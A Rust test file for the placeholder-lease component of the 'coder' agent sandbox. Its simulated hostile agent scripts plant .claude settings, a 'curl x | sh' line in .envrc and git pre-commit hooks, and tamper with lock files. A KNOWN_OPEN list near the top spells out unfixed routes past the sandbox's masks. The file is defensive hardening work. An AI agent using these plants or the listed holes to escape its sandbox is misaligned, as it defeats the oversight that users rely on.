//! Review of the placeholder lease (`src/sandbox/lease.rs`): runs that share a tree must not
//! take each other's masks away, however they reach the tree and however they end. A
//! placeholder is the name coder makes for an absent protected name (`.claude`, `.envrc`,
//! `.git`, a git dir's `hooks/`); unlinking it in one mount namespace detaches the masks
//! mounted on it in every other. Each attack runs through the built binary, as root and as
//! uid 65534, with runs driven by files as events (`NAME-up` when a run's command has
//! started, `NAME-go` to let it go on), and asserts what the user relies on: after the
//! runs, the names their tools obey hold nothing an agent planted, and no placeholder is
//! left in the workspace.
//!
//! Holes this review found and could not close are listed in [`KNOWN_OPEN`].

mod common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::sandbox_fixture::{PATH, as_owner, bash_sandbox, chown_tree, owners, temp_root, write};
use common::{Bounded, CODER};

/// Holes found by this review that are still open, each with how to reproduce it.
pub const KNOWN_OPEN: &[&str] = &[
    "A bind mount of a SUBDIRECTORY of a running tree at another path: run A works in \
     /p/ws (holds /p/ws), run B in /mnt/x, a bind mount of /p/ws/sub. B's placeholder \
     /mnt/x/.claude is /p/ws/sub/.claude, which A's scan masks when it starts after B; B's \
     release walks /mnt/x, /mnt, / and none of those is A's root, so B removes it and A's \
     mask goes. Lock files keyed by (dev, ino) close the same-directory case (the test \
     below) but a bind of a subdirectory has no path up to the enclosing tree; closing it \
     needs the filesystem-relative path of /proc/self/mountinfo (field 4) as the key.",
    "Footprint of the bind-mount case: placeholders registered under a path that only a \
     mount namespace now gone had (run A at the bind mount b/ws in its own namespace) are \
     forgotten by the last run (the path leads nowhere in its namespace), not removed: \
     .claude, .envrc, a .git symlink stay in the workspace, and `git init` there fails \
     (\"Invalid path '/dev/null/coder-absent': Not a directory\") until they are removed \
     by hand. Not a mask loss.",
    "Runs of different state directories (root and a user in one tree, a shell with \
     XDG_STATE_HOME set and one without, CODER_STATE_DIR) do not see each other's locks: \
     the first to end removes placeholders the other masks, and the other's agent can then \
     create .claude/settings.json, .envrc or .git. Documented in SECURITY.md.",
];

/// A temporary tree given to its owner: `ws` (no repository: it gets every placeholder,
/// `.git` among them) and `home` (coder's state directory is `home/.local/state/coder`).
struct Fx {
    _dir: tempfile::TempDir,
    root: PathBuf,
    ws: PathBuf,
    home: PathBuf,
    owner: Option<u32>,
}

impl Fx {
    fn new(owner: Option<u32>) -> Fx {
        let (dir, root) = temp_root(".tmp-lease");
        let ws = root.join("ws");
        let home = root.join("home");
        write(&ws.join("README.md"), "# demo\n");
        write(&home.join(".bashrc"), "# rc\n");
        Fx {
            _dir: dir,
            root,
            ws,
            home,
            owner,
        }
    }

    fn own(&self) {
        if let Some(uid) = self.owner {
            chown_tree(&self.root, uid);
        }
    }

    /// `coder sandbox --mode workspace-write ARGS` in `ws`, in the background: the script
    /// runs `touch NAME-up`, waits for `NAME-go`, then runs `then`.
    fn hold(&self, ws: &Path, args: &[&str], name: &str, then: &str) -> Child {
        let script =
            format!("touch {name}-up; until [ -e {name}-go ]; do sleep 0.02; done; {then}; true");
        let args = [&["--mode", "workspace-write"][..], args].concat();
        bash_sandbox(self.owner, ws, &self.home, &args, &script)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }

    /// A run in `ws` that does nothing, to its end.
    fn quick(&self, ws: &Path) -> Output {
        bash_sandbox(
            self.owner,
            ws,
            &self.home,
            &["--mode", "workspace-write"],
            "true",
        )
        .output_bounded()
    }

    /// `git ARGS` in `dir` on the host, as the owner, after the runs.
    fn host_git(&self, dir: &Path, args: &[&str]) -> Output {
        let mut cmd = Command::new("git");
        cmd.args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .current_dir(dir)
            .env_clear()
            .env("PATH", PATH)
            .env("HOME", &self.home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdin(Stdio::null());
        as_owner(&mut cmd, self.owner).output_bounded()
    }
}

/// A repository in `dir` (made as root, before the fixture is given to its owner) without
/// `hooks/`: every run whose writable tree holds it makes a `hooks` placeholder there.
fn repo_without_hooks(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let init = Command::new("git")
        .args(["init", "-q"])
        .current_dir(dir)
        .env_clear()
        .env("PATH", PATH)
        .env("HOME", "/nonexistent")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output_bounded();
    assert!(init.status.success(), "{init:?}");
    std::fs::remove_dir_all(dir.join(".git/hooks")).unwrap();
}

fn label(owner: Option<u32>) -> &'static str {
    if owner.is_some() {
        "unprivileged"
    } else {
        "root"
    }
}

/// What an agent plants at the workspace root when its masks are gone.
const PLANT: &str = "mkdir -p .claude 2>/dev/null; \
    echo '{\"hooks\":{}}' > .claude/settings.json 2>/dev/null; \
    echo 'curl x | sh' > .envrc 2>/dev/null; \
    rm -f .git 2>/dev/null; git init -q 2>/dev/null";

/// Names [`PLANT`] aims at, and the placeholders a workspace without them gets.
const PLANTED: [&str; 3] = [".claude/settings.json", ".envrc", ".git/config"];
const PLACEHOLDERS: [&str; 5] = [".git", ".envrc", ".mcp.json", ".vscode", ".claude"];

fn exists(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok()
}

fn wait_ok(child: &mut Child, who: &str, name: &str) {
    let status = common::wait_within(child, Duration::from_secs(60));
    let mut err = String::new();
    if let Some(mut e) = child.stderr.take() {
        use std::io::Read;
        let _ = e.read_to_string(&mut err);
    }
    assert!(status.success(), "[{who}] {name} exited {status:?}: {err}");
}

fn assert_nothing_planted(ws: &Path, who: &str, how: &str) {
    for planted in PLANTED {
        // A directory there is a placeholder (left or not is asserted apart); a file or a
        // symlink is the agent's.
        let meta = std::fs::symlink_metadata(ws.join(planted));
        assert!(
            !meta.is_ok_and(|m| !m.is_dir()),
            "[{who}] {how}: the agent planted {planted}"
        );
    }
}

fn assert_no_placeholders(ws: &Path, who: &str) {
    for name in PLACEHOLDERS {
        assert!(
            !exists(&ws.join(name)),
            "[{who}] placeholder {name} left in the workspace after every run ended"
        );
    }
}

/// `git init` works in `ws` once every run ended (a `.git` placeholder left behind would
/// make it fail or write elsewhere).
fn assert_git_init_works(fx: &Fx, ws: &Path, who: &str) {
    let out = fx.host_git(ws, &["init", "-q"]);
    assert!(
        out.status.success(),
        "[{who}] git init after the runs: {out:?}"
    );
    assert!(
        ws.join(".git").is_dir() && ws.join(".git/config").is_file(),
        "[{who}] git init did not make a repository in the workspace"
    );
}

/// The pid of the coder that `timeout` (the child) runs.
fn coder_of(timeout: &Child) -> nix::unistd::Pid {
    let pid = timeout.id();
    let children = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap();
    let coder: i32 = children.split_whitespace().next().unwrap().parse().unwrap();
    nix::unistd::Pid::from_raw(coder)
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_killed_run_then_a_third_run_ending_leave_the_live_run_its_masks() {
    // A makes the placeholders, B masks them, A's coder is killed (its holds go, its
    // registry entries stay), and C runs and ends while B still runs: C must not remove
    // what B's masks cover. Once B ends, nothing of the three runs is left.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        fx.own();
        let mut a = fx.hold(&fx.ws, &[], "a", "sleep 60");
        common::wait_for_path(&fx.ws.join("a-up"), Duration::from_secs(30));
        let mut b = fx.hold(&fx.ws, &[], "b", PLANT);
        common::wait_for_path(&fx.ws.join("b-up"), Duration::from_secs(30));
        nix::sys::signal::kill(coder_of(&a), nix::sys::signal::Signal::SIGKILL).unwrap();
        let _ = common::wait_within(&mut a, Duration::from_secs(30));
        let c = fx.quick(&fx.ws);
        assert!(c.status.success(), "[{who}] run C: {c:?}");
        assert!(
            fx.ws.join(".claude").is_dir(),
            "[{who}] run C removed a placeholder run B masks"
        );
        write(&fx.ws.join("b-go"), "");
        wait_ok(&mut b, who, "run B");
        assert_nothing_planted(&fx.ws, who, "after A was killed and C ended");
        assert_no_placeholders(&fx.ws, who);
        assert_git_init_works(&fx, &fx.ws, who);
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn nested_and_enclosing_runs_keep_each_others_git_dir_masks() {
    // `ws/sub` is a repository without `hooks/`: a run of `ws` and a run of `ws/sub` both
    // guard its git dir, and whichever starts first makes the `hooks` placeholder the other
    // masks. The first to end must leave it; the other's agent must not get a hook in.
    for owner in owners() {
        for outer_first in [true, false] {
            let who = label(owner);
            let fx = Fx::new(owner);
            let sub = fx.ws.join("sub");
            repo_without_hooks(&sub);
            fx.own();
            let hook_from_ws = "mkdir -p sub/.git/hooks 2>/dev/null; \
                echo 'touch /tmp/pwned' > sub/.git/hooks/pre-commit 2>/dev/null";
            let hook_from_sub = "mkdir -p .git/hooks 2>/dev/null; \
                echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>/dev/null";
            let (first_ws, first_plant, second_ws, second_plant) = if outer_first {
                (&fx.ws, hook_from_ws, &sub, hook_from_sub)
            } else {
                (&sub, hook_from_sub, &fx.ws, hook_from_ws)
            };
            let mut first = fx.hold(first_ws, &[], "first", first_plant);
            common::wait_for_path(&first_ws.join("first-up"), Duration::from_secs(30));
            assert!(
                sub.join(".git/hooks").is_dir(),
                "[{who}] no hooks placeholder"
            );
            let mut second = fx.hold(second_ws, &[], "second", second_plant);
            common::wait_for_path(&second_ws.join("second-up"), Duration::from_secs(30));
            write(&first_ws.join("first-go"), "");
            wait_ok(&mut first, who, "first run");
            write(&second_ws.join("second-go"), "");
            wait_ok(&mut second, who, "second run");
            assert!(
                !exists(&sub.join(".git/hooks/pre-commit")),
                "[{who}] outer first: {outer_first}: an agent planted a hook once the \
                 other run had ended"
            );
            assert!(
                !exists(&sub.join(".git/hooks")),
                "[{who}] outer first: {outer_first}: the hooks placeholder was left behind"
            );
        }
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_write_tree_shared_by_runs_of_two_workspaces_keeps_its_masks() {
    // Two workspaces, one `--write` tree (a repository without `hooks/`) granted to both.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let other = fx.root.join("other");
        let shared = fx.root.join("shared");
        write(&other.join("README.md"), "x\n");
        repo_without_hooks(&shared);
        fx.own();
        let grant = shared.to_str().unwrap();
        let mut a = fx.hold(&fx.ws, &["--write", grant], "a", "true");
        common::wait_for_path(&fx.ws.join("a-up"), Duration::from_secs(30));
        let plant = format!(
            "mkdir -p {grant}/.git/hooks 2>/dev/null; echo x > {grant}/.git/hooks/pre-commit 2>/dev/null"
        );
        let mut b = fx.hold(&other, &["--write", grant], "b", &plant);
        common::wait_for_path(&other.join("b-up"), Duration::from_secs(30));
        write(&fx.ws.join("a-go"), "");
        wait_ok(&mut a, who, "run A");
        write(&other.join("b-go"), "");
        wait_ok(&mut b, who, "run B");
        assert!(
            !exists(&shared.join(".git/hooks/pre-commit")),
            "[{who}] run B's agent planted a hook in the shared tree once run A had ended"
        );
        assert!(
            !exists(&shared.join(".git/hooks")),
            "[{who}] the shared tree's hooks placeholder was left behind"
        );
        assert_no_placeholders(&fx.ws, who);
        assert_no_placeholders(&other, who);
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn a_second_path_to_the_workspace_does_not_let_one_run_unmask_the_other() {
    // The same directory at two paths (a bind mount, as a container volume or a
    // `mount --bind` makes): run A works in `b/ws`, the bind mount of `a/ws`, in a mount
    // namespace of its own; run B works in `a/ws` and masks A's placeholders. A's ending
    // must not remove them.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let real = fx.root.join("a/ws");
        let bound = fx.root.join("b/ws");
        std::fs::create_dir_all(real.parent().unwrap()).unwrap();
        std::fs::rename(&fx.ws, &real).unwrap();
        std::fs::create_dir_all(&bound).unwrap();
        fx.own();
        let a_script = "touch a-up; until [ -e a-go ]; do sleep 0.02; done";
        let mut a = Command::new("unshare");
        a.args(["-m", "--propagation", "private", "--", "/bin/sh", "-c"])
            .arg("mount --bind \"$1\" \"$2\" || exit 97; shift 2; exec \"$@\"")
            .arg("sh")
            .arg(&real)
            .arg(&bound);
        if owner.is_some() {
            a.args([
                "setpriv",
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
            ]);
        }
        a.args(["timeout", "60", CODER, "sandbox", "--cd"])
            .arg(&bound)
            .args([
                "--mode",
                "workspace-write",
                "--",
                "/bin/bash",
                "-c",
                a_script,
            ])
            .env_clear()
            .env("PATH", PATH)
            .env("HOME", &fx.home)
            .current_dir(&fx.root)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        let mut a = a.spawn().unwrap();
        common::wait_for_path(&real.join("a-up"), Duration::from_secs(30));
        assert!(
            real.join(".claude").is_dir(),
            "[{who}] run A made no placeholder"
        );
        let mut b = fx.hold(&real, &[], "b", PLANT);
        common::wait_for_path(&real.join("b-up"), Duration::from_secs(30));
        write(&real.join("a-go"), "");
        wait_ok(&mut a, who, "run A");
        write(&real.join("b-go"), "");
        wait_ok(&mut b, who, "run B");
        assert_nothing_planted(&real, who, "after the run at the other path ended");
        // Not asserted: that no placeholder is left. A's were registered under a path
        // only A's mount namespace had (KNOWN_OPEN).
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_agent_granted_the_state_dir_cannot_unlock_the_placeholders_of_other_runs() {
    // `--write ~/.local/state` reaches coder's state directory, where the lease's lock
    // files are. An agent that removes them there makes another run's ending take its own
    // masks with it; one that holds them blocks every later run. Either the run is refused
    // or its agent cannot get at the locks.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let state = fx.home.join(".local/state");
        std::fs::create_dir_all(state.join("coder")).unwrap();
        fx.own();
        let mut a = fx.hold(&fx.ws, &[], "a", "true");
        common::wait_for_path(&fx.ws.join("a-up"), Duration::from_secs(30));
        let locks = state.join("coder/placeholders");
        let unlock = format!(
            "rm -f {0}/*.lock 2>/dev/null; ls {0} > unlock-seen 2>&1",
            locks.display()
        );
        let script =
            format!("{unlock}; touch b-up; until [ -e b-go ]; do sleep 0.02; done; {PLANT}; true");
        let (mut b, refused) = b_with_write_grant(&fx, owner, &state, &script);
        if let Some(status) = refused {
            let mut err = String::new();
            use std::io::Read;
            b.stderr.take().unwrap().read_to_string(&mut err).unwrap();
            assert!(
                !status.success() && err.contains("state"),
                "[{who}] run B ended without its command running: {status:?} {err}"
            );
        }
        write(&fx.ws.join("a-go"), "");
        wait_ok(&mut a, who, "run A");
        if refused.is_none() {
            write(&fx.ws.join("b-go"), "");
            wait_ok(&mut b, who, "run B");
        } else {
            // The refused run took its run directory back with it (A removed its own).
            let runs: Vec<_> = std::fs::read_dir(state.join("coder/sandbox"))
                .map(|dir| dir.map(|e| e.unwrap().file_name()).collect())
                .unwrap_or_default();
            assert!(runs.is_empty(), "[{who}] run directories left: {runs:?}");
        }
        assert_nothing_planted(&fx.ws, who, "after the agent reached the lock files");
        // Nothing blocks the next run either, and it leaves nothing behind.
        let started = Instant::now();
        let next = fx.quick(&fx.ws);
        assert!(next.status.success(), "[{who}] next run: {next:?}");
        assert!(
            started.elapsed() < Duration::from_secs(8),
            "[{who}] the next run waited {:?}",
            started.elapsed()
        );
        assert_no_placeholders(&fx.ws, who);
    }
}

/// Run B in `ws` with `--write grant`, its agent running `script` (which touches `b-up`
/// first); waits until B's agent is up (`None`) or B has ended, refused (its status).
fn b_with_write_grant(
    fx: &Fx,
    owner: Option<u32>,
    grant: &Path,
    script: &str,
) -> (Child, Option<std::process::ExitStatus>) {
    let who = label(owner);
    let mut b = bash_sandbox(
        owner,
        &fx.ws,
        &fx.home,
        &[
            "--mode",
            "workspace-write",
            "--write",
            grant.to_str().unwrap(),
        ],
        script,
    )
    .stdout(Stdio::null())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if fx.ws.join("b-up").exists() {
            return (b, None);
        }
        if let Some(status) = b.try_wait().unwrap() {
            return (b, Some(status));
        }
        assert!(
            Instant::now() < deadline,
            "[{who}] run B neither started nor ended"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Run B in `ws`, whose agent (`b_script`) signals `b-up`, waits for `b-go`, moves `x`
/// away and signals `b-moved`; then run A, held in `ws/sub` (where `x` went) until
/// `a-go`. Returns B, A and `ws/sub` once A's agent is up.
fn b_moves_x_then_a_starts_in_sub(
    fx: &Fx,
    owner: Option<u32>,
    x: &Path,
    b_script: &str,
) -> (Child, Child, PathBuf) {
    let who = label(owner);
    let b = bash_sandbox(
        owner,
        &fx.ws,
        &fx.home,
        &["--mode", "workspace-write"],
        b_script,
    )
    .stdout(Stdio::null())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    common::wait_for_path(&fx.ws.join("b-up"), Duration::from_secs(30));
    assert!(
        x.join(".git/hooks").is_dir(),
        "[{who}] no hooks placeholder"
    );
    write(&fx.ws.join("b-go"), "");
    common::wait_for_path(&fx.ws.join("b-moved"), Duration::from_secs(30));
    let sub = fx.ws.join("sub");
    let a = fx.hold(&sub, &[], "a", A_HOOK);
    common::wait_for_path(&sub.join("a-up"), Duration::from_secs(30));
    (b, a, sub)
}

/// A workspace whose `x` is a repository without `hooks/` (every run of the workspace
/// makes a `hooks` placeholder there).
fn with_repo_x(fx: &Fx) -> PathBuf {
    let x = fx.ws.join("x");
    repo_without_hooks(&x);
    x
}

/// Run A's command in its workspace: waits for `a-go`, then writes a hook.
const A_HOOK: &str = "mkdir -p .git/hooks 2>/dev/null; \
    echo 'touch /tmp/pwned' > .git/hooks/pre-commit 2>/dev/null";

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_agent_that_moves_a_live_runs_tree_cannot_make_its_own_run_unmask_it() {
    // Run B (workspace `ws`) makes the placeholder `ws/x/.git/hooks`; its agent renames
    // `x` to `sub`; the user starts run A in `ws/sub`, which masks that placeholder; B's
    // agent renames `sub` back to `x` and B ends. A's tree is now at `ws/x`, which no path
    // of B's release names as A's root: A's mask must still hold.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let x = with_repo_x(&fx);
        fx.own();
        let b_script = "touch b-up; until [ -e b-go ]; do sleep 0.02; done; mv x sub; \
            touch b-moved; until [ -e b-back ]; do sleep 0.02; done; mv sub x";
        let (mut b, mut a, _) = b_moves_x_then_a_starts_in_sub(&fx, owner, &x, b_script);
        write(&fx.ws.join("b-back"), "");
        wait_ok(&mut b, who, "run B");
        write(&x.join("a-go"), "");
        // A may report its git guard incomplete: its tree is no longer where it started.
        let _ = common::wait_within(&mut a, Duration::from_secs(60));
        assert!(
            !exists(&x.join(".git/hooks/pre-commit")),
            "[{who}] run A's agent wrote a hook once run B's agent had moved A's tree"
        );
        assert!(
            !exists(&x.join(".git/hooks")),
            "[{who}] the hooks placeholder was left behind"
        );
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_agent_cannot_point_a_registered_placeholder_path_at_a_live_runs_mask() {
    // Run B (workspace `ws`) makes the placeholder `ws/x/.git/hooks`, registered under
    // that path; its agent moves `x` to `sub` and leaves `x/.git` a symlink to
    // `../sub/.git`. The user starts run A in `ws/sub`, which masks the placeholder; B
    // ends. B's release must not reach A's placeholder through the symlink.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let x = with_repo_x(&fx);
        fx.own();
        let b_script = "touch b-up; until [ -e b-go ]; do sleep 0.02; done; mv x sub; \
            mkdir x; ln -s ../sub/.git x/.git; touch b-moved; \
            until [ -e b-end ]; do sleep 0.02; done";
        let (mut b, mut a, sub) = b_moves_x_then_a_starts_in_sub(&fx, owner, &x, b_script);
        write(&fx.ws.join("b-end"), "");
        wait_ok(&mut b, who, "run B");
        write(&sub.join("a-go"), "");
        wait_ok(&mut a, who, "run A");
        assert!(
            !exists(&sub.join(".git/hooks/pre-commit")),
            "[{who}] run A's agent wrote a hook once run B's release followed the symlink"
        );
    }
}

#[test]
#[ignore = "needs root and user namespaces: scripts/test runs it"]
fn an_agent_granted_the_registry_file_cannot_block_other_runs() {
    // `--write` of one file in the lease directory (the registry, which every run locks
    // when its scan ends): an agent that holds its lock makes every other run of this
    // state directory wait 10 s and fail. Either the run is refused or the other runs
    // are not held up.
    for owner in owners() {
        let who = label(owner);
        let fx = Fx::new(owner);
        let other = fx.root.join("other");
        write(&other.join("README.md"), "x\n");
        fx.own();
        let first = fx.quick(&fx.ws);
        assert!(first.status.success(), "[{who}] first run: {first:?}");
        let registry = fx
            .home
            .join(".local/state/coder/placeholders/registry.json");
        assert!(registry.is_file(), "[{who}] no registry after a run");
        let script = format!(
            "flock -x {} -c 'touch b-up; until [ -e b-go ]; do sleep 0.02; done'",
            registry.display()
        );
        let (mut b, ended) = b_with_write_grant(&fx, owner, &registry, &script);
        if let Some(status) = ended {
            assert!(!status.success(), "[{who}] run B ended without its command");
        }
        let refused = ended.is_some();
        let started = Instant::now();
        let c = fx.quick(&other);
        let waited = started.elapsed();
        write(&fx.ws.join("b-go"), "");
        if !refused {
            let _ = common::wait_within(&mut b, Duration::from_secs(60));
        }
        assert!(
            c.status.success() && waited < Duration::from_secs(8),
            "[{who}] a run of another workspace, while B's agent held the registry: \
             waited {waited:?}, {c:?}"
        );
        assert_no_placeholders(&other, who);
    }
}
